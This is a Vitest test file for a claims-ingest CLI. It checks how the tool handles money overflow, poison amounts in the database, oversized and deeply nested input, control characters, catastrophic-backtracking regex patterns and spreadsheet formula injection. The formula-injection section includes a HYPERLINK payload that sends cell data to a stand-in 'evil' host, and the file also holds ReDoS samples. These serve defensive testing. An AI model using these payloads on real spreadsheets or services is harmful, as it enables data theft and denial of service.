import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { BACKEND, Workspace } from '../helpers/cli.js';
import { cells, csv, jsonRow } from '../helpers/inputs.js';
import { runMain } from '../helpers/main.js';

let ws: Workspace;
beforeEach(() => {
  ws = new Workspace();
});
afterEach(() => ws.remove());

const run = (args: string[], stdin?: string | Buffer) => runMain([...args, '--db', ws.db], { stdin });
const ingest = (content: string | Buffer, name = 'in.csv', extra: string[] = []) =>
  run(['ingest', ws.file(name, content), '--format', 'json', ...extra]);

function expectRefused(result: { code: number; stderr: string }, message: RegExp): void {
  expect(result.code).toBe(1);
  expect(result.stderr).toMatch(message);
  expect(result.stderr).not.toMatch(/\n\s+at /);
}

// Amounts no claims of this version can store, written into the SQLite file by hand as an older
// version or a damaged file would leave them; a PostgreSQL database has only this version's bigint cents.
const sqliteFileOnly = it.skipIf(BACKEND === 'postgres');

describe('money range', () => {
  it('rejects fees that each parse but whose net fee would leave the exact range', async () => {
    const huge = '$90071992547409.91';
    const result = await ingest(csv([cells({ provider: huge, coinsurance: huge, copay: huge, allowed: '$0.00' }), cells({ subscriber: 'OTHER' })]));
    expect(result.code).toBe(3);
    const summary = JSON.parse(result.stdout)[0];
    expect(summary).toMatchObject({ claims_stored: 1, rows_rejected: 1 });
    const rejections = JSON.parse((await run(['report', 'rejections', '--format', 'json'])).stdout);
    expect(rejections[0].errors.map((e: { rule: string }) => e.rule)).toContain('money_range');
    const report = await run(['report', 'summary', '--format', 'json']);
    expect(report.code).toBe(0);
    expect(JSON.parse(report.stdout)).toMatchObject({ claims: 1, net_fee_cents: 0, events_pending: 1 });
  });

  it('rejects a claim whose lines are each in range but whose net fee is not', async () => {
    const lines = Array.from({ length: 11 }, (_, i) => cells({ procedure: `D${1000 + i}`, provider: '$1,000,000.00', allowed: '$0.00' }));
    const result = await ingest(csv(lines));
    expect(result.code).toBe(3);
    const rejections = JSON.parse((await run(['report', 'rejections', '--format', 'json'])).stdout);
    expect(rejections).toHaveLength(11);
    expect(rejections[0].errors[0]).toMatchObject({ rule: 'money_range', message: expect.stringMatching(/claim net fee 11000000.00/) });
  });

  sqliteFileOnly('keeps reports exact and other claims flowing when an older version stored a poison amount', async () => {
    expect((await ingest(csv([cells(), cells({ subscriber: 'S2' }), cells({ subscriber: 'S3', provider: '$150.00' })]))).code).toBe(0);
    // What the old version stored for three fees of $90071992547409.91: beyond 2^53 cents.
    const db = new Database(ws.db);
    db.prepare('update claims set net_fee_cents = 27021597764222973 where id = 1').run();
    db.prepare('update claim_lines set net_fee_cents = 27021597764222973 where claim_pk = 1').run();
    db.close();

    const summary = await run(['report', 'summary', '--format', 'json']);
    expect(summary.code).toBe(0);
    expect(summary.stdout).toContain('"net_fee_cents":27021597764227973');
    expect(JSON.parse(summary.stdout).net_fee).toBe('270215977642279.73');

    const top = await run(['report', 'top-providers', '--format', 'csv']);
    expect(top.code).toBe(0);
    expect(top.stdout).toContain('27021597764227973,270215977642279.73');

    // The poison row reads back inexact: it is flagged by an empty decimal, the others list as usual.
    const list = await run(['list', '--format', 'json']);
    expect(list.code).toBe(0);
    const listed = JSON.parse(list.stdout) as { net_fee_cents: number; net_fee: string | null }[];
    expect(listed.map((row) => row.net_fee)).toEqual([null, '0.00', '50.00']);

    // A dry run lists the payable events only, and writes nothing.
    const replay = await run(['replay', '--dry-run', '--format', 'json']);
    expect(replay.code).toBe(0);
    expect(JSON.parse(replay.stdout)).toHaveLength(2);
  });

  sqliteFileOnly('leaves a stored amount that is not an integer at all out of sums, and flags it in the list', async () => {
    expect((await ingest(csv([cells(), cells({ subscriber: 'S2', provider: '$150.00' })]))).code).toBe(0);
    const db = new Database(ws.db);
    db.prepare("update claims set net_fee_cents = 'lots' where id = 1").run();
    db.close();
    const summary = await run(['report', 'summary', '--format', 'json']);
    expect(summary.code).toBe(0);
    expect(JSON.parse(summary.stdout)).toMatchObject({ claims: 2, net_fee_cents: 5000, net_fee: '50.00' });
    const top = await run(['report', 'top-providers', '--format', 'json']);
    expect(JSON.parse(top.stdout)[0]).toMatchObject({ net_fee_cents: 5000, net_fee: '50.00' });
    const list = await run(['list', '--format', 'csv']);
    expect(list.code).toBe(0);
    expect(list.stdout).toMatch(/,lots,,/);
  });

  sqliteFileOnly('marks a claim holding an amount that cannot be read exactly as a failed event with the reason', async () => {
    const { OutboxStore } = await import('../../src/db/outbox-store.js');
    const { openDb } = await import('../../src/db/open.js');
    const { pino } = await import('pino');
    expect((await ingest(csv([cells(), cells({ subscriber: 'S2' })]))).code).toBe(0);
    const raw = new Database(ws.db);
    raw.prepare('update claims set net_fee_cents = 27021597764222973 where id = 1').run();
    raw.close();
    const db = openDb(ws.db, pino({ enabled: false }));
    try {
      const store = new OutboxStore(db);
      // The poison claim is first and alone on its page: the next claim still comes.
      const events = await store.nextDeliverable(0, 1);
      expect(events.map((e) => e.seq)).toEqual([2]);
      const failed = db.$client.prepare("select seq, status, last_error from outbox where status = 'failed'").all() as {
        seq: number;
        last_error: string;
      }[];
      expect(failed).toHaveLength(1);
      expect(failed[0]!.seq).toBe(1);
      expect(failed[0]!.last_error).toMatch(/net_fee_cents .* not an exact amount .*money_range/);
    } finally {
      db.$client.close();
    }
  });
});

describe('hostile input', () => {
  it('refuses /dev/zero as CSV and NDJSON quickly, naming the row', async () => {
    for (const format of ['csv', 'ndjson']) {
      const result = await run(['ingest', '/dev/zero', '--input-format', format]);
      expectRefused(result, /row 1: record larger than 1 MiB/);
    }
  }, 20_000);

  it('refuses an over-large JSON element and an over-large CSV record after good rows', async () => {
    const big = 'x'.repeat(1024 * 1024 + 10);
    expectRefused(await ingest(JSON.stringify([jsonRow(), { ...jsonRow(), Note: big }]), 'in.json'), /row 2: record larger than 1 MiB/);
    expectRefused(await ingest(csv([cells(), cells({ plan: big })])), /row 3: record larger than 1 MiB/);
  });

  it('refuses deep JSON nesting without a stack trace', async () => {
    expectRefused(await ingest('['.repeat(100_000), 'deep.json'), /row 1: JSON nested deeper than 64 levels/);
    expectRefused(await ingest('{"a":'.repeat(100_000), 'deep.json'), /JSON nested deeper than 64 levels/);
    expectRefused(await ingest(`${JSON.stringify(jsonRow())}\n${'['.repeat(100_000)}\n`, 'deep.ndjson'), /row 2: JSON nested deeper/);
  });

  it('rejects a NUL inside a procedure by control_characters instead of storing another code', async () => {
    const result = await ingest(csv([cells({ procedure: 'D0\u0000 80' })]));
    expect(result.code).toBe(3);
    const rejections = JSON.parse((await run(['report', 'rejections', '--format', 'json'])).stdout);
    expect(rejections[0].errors).toContainEqual(
      expect.objectContaining({ rule: 'control_characters', field: 'submitted_procedure', value: 'D0\u0000 80' }),
    );
    expect(JSON.parse((await run(['list', '--format', 'json'])).stdout)).toEqual([]);
  });

  it('escapes DEL and C1 controls in the stderr rejection line as it does NUL and BEL', async () => {
    const result = await ingest(csv([cells({ procedure: 'D0\u007f80' }), cells({ subscriber: 'S2', procedure: 'D\u0085\u009f\u0007' })]));
    expect(result.code).toBe(3);
    expect(result.stderr).not.toMatch(/[\u007f-\u009f\u0007]/);
    expect(result.stderr).toContain('"D0\\u007f80"');
    expect(result.stderr).toContain('"D\\u0085\\u009f\\u0007"');
  });

  it.each(['(a+)+$', '^(a|a)*$', '^(a|aa)+$', '(.*a){20}$'])(
    'runs a custom pattern that would backtrack catastrophically (%s) in linear time',
    async (pattern) => {
      const rules = ws.file('rules.json', JSON.stringify({ custom: [{ name: 'slow_plan', field: 'plan_group_number', pattern, message: 'bad plan' }] }));
      const started = Date.now();
      // 40 characters: seconds to hours for a backtracking engine on these patterns.
      const result = await ingest(csv([cells({ plan: `${'a'.repeat(40)}!` })]), 'in.csv', ['--rules', rules]);
      expect(Date.now() - started).toBeLessThan(5_000);
      expect(result.code).toBe(3);
      expect(result.stderr).toMatch(/bad plan \[slow_plan\]/);
    },
  );

  it('refuses a custom pattern that needs backtracking (a backreference), naming the rule', async () => {
    const rules = ws.file(
      'rules.json',
      JSON.stringify({ custom: [{ name: 'twice', field: 'plan_group_number', pattern: '(?<x>a+)\\k<x>+$', message: 'm' }] }),
    );
    const result = await ingest(csv([cells()]), 'in.csv', ['--rules', rules]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/custom\[0\]\.pattern: not a pattern this tool can run in linear time/);
  });

  it('fails an over-long cell tested by a custom rule without running the pattern', async () => {
    const rules = ws.file(
      'rules.json',
      JSON.stringify({ custom: [{ name: 'plan_shape', field: 'plan_group_number', pattern: '^[A-Z0-9-]+$', message: 'plan shape' }] }),
    );
    const result = await ingest(csv([cells({ plan: 'A'.repeat(5000) })]), 'in.csv', ['--rules', rules]);
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/plan shape \(longer than 1024 characters, not checked\) \[plan_shape\]/);
  });
});

describe('formula-looking cells', () => {
  const formulas = ['=HYPERLINK("http://evil/?x="&A1)', '@SUM(1+1)', '=1+1', '+1', '-x', '\t=1'];

  it('rejects them in free-text fields by formula_text, keeping the raw value in the rejects file', async () => {
    const rows = formulas.map((plan, i) => cells({ plan, subscriber: `S${i}` }));
    rows.push(cells({ subscriber: '=1+1', plan: 'OK-1' }));
    const rejects = ws.path('rejects.csv');
    const result = await ingest(csv(rows), 'in.csv', ['--rejects', rejects]);
    expect(result.code).toBe(3);
    expect(JSON.parse(result.stdout)[0]).toMatchObject({ rows_rejected: formulas.length + 1, claims_stored: 0 });
    const { readFileSync } = await import('node:fs');
    expect(readFileSync(rejects, 'utf8')).toContain('"=HYPERLINK(""http://evil/?x=""&A1)"');
  });

  it('neutralises formula-looking text cells in CSV output, leaving numbers as they are', async () => {
    const rules = ws.file('rules.json', JSON.stringify({ builtin: { formula_text: 'off' } }));
    const rows = [cells({ plan: '=1+1', subscriber: '@SUM(1+1)', allowed: '$100.05' })];
    expect((await ingest(csv(rows), 'in.csv', ['--rules', rules])).code).toBe(0);
    const list = await run(['list', '--format', 'csv']);
    expect(list.stdout).toContain(",'=1+1,'@SUM(1+1),");
    expect(list.stdout).toContain(',-5,-0.05,');
    const json = JSON.parse((await run(['list', '--format', 'json'])).stdout);
    expect(json[0]).toMatchObject({ plan_group_number: '=1+1', subscriber_number: '@SUM(1+1)' });

    const bad = [cells({ plan: '=HYPERLINK("http://evil/?x="&A1)' })];
    await ingest(csv(bad), 'bad.csv');
    const rejections = await run(['report', 'rejections', '--format', 'csv']);
    for (const line of rejections.stdout.trim().split('\n').slice(1)) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@]/);
    }
  });
});

describe('a poison claim with a real broker', () => {
  sqliteFileOnly('replay publishes every other claim and marks the poison event failed with the reason', async () => {
    const { NatsServer } = await import('../helpers/nats.js');
    const server = await NatsServer.start();
    try {
      expect((await ingest(csv([cells(), cells({ subscriber: 'S2' }), cells({ subscriber: 'S3' })]))).code).toBe(0);
      const db = new Database(ws.db);
      db.prepare('update claim_lines set provider_fees_cents = 9007199254740993 where claim_pk = 2').run();
      db.close();

      const replay = await run(['replay', '--nats', server.url, '--format', 'json']);
      expect(replay.stderr).not.toMatch(/\n\s+at |unexpected error/);
      // The poison event is a failed delivery: counted, and the exit code says not everything went out.
      expect(replay.code).toBe(4);
      expect(JSON.parse(replay.stdout)).toMatchObject({ events_published: 2, events_failed: 1 });
      const summary = JSON.parse((await run(['report', 'summary', '--format', 'json'])).stdout);
      expect(summary).toMatchObject({ events_published: 2, events_failed: 1, events_pending: 0 });
      const raw = new Database(ws.db);
      const failed = raw.prepare("select last_error from outbox where status = 'failed'").get() as { last_error: string };
      raw.close();
      expect(failed.last_error).toMatch(/line 1: provider_fees_cents .* not an exact amount/);

      // Replaying again still publishes nothing new and does not stop on the poison event.
      const again = await run(['replay', '--nats', server.url, '--format', 'json']);
      expect(again.stderr).not.toMatch(/\n\s+at |unexpected error/);
      const after = JSON.parse((await run(['report', 'summary', '--format', 'json'])).stdout);
      expect(after).toMatchObject({ events_published: 2, events_failed: 1 });
    } finally {
      await server.remove();
    }
  }, 30_000);
});
